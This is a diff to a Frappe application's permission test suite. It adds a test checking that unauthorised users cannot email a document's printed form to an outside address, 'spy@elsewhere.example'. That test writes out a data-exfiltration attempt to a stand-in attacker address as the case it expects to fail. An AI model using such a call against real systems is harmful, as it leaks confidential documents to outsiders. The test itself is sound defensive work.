@@ -10,6 +10,7 @@ from typing import NamedTuple
 import frappe
 import frappe.client
 import frappe.desk.reportview
+from frappe.core.doctype.communication.email import make as make_mail
 from frappe.core.doctype.prepared_report.prepared_report import make_prepared_report
 from frappe.desk import query_report
 
@@ -208,6 +209,18 @@ class TestWithoutTheRight(AccessTestCase):
 					else:
 						with self.assertRaises(frappe.PermissionError):
 							doc.insert()
+
+	def test_nobody_mails_a_document_behind_a_report_out_of_the_house(self):
+		"""The framework would attach its print to a mail for any address."""
+		for user in (*OUTSIDERS, *STAFF):
+			with self.subTest(user), self.as_user(user), self.assertRaises(frappe.PermissionError):
+				make_mail(
+					APPEAL,
+					self.once,
+					recipients="spy@elsewhere.example",
+					send_email=1,
+					print_format="Standard",
+				)
 
 	def test_documents_behind_a_report_are_listed_and_exported_by_the_same_rights(self):
 		for doctype in sorted({record["ref_doctype"] for record in reports().values()}):
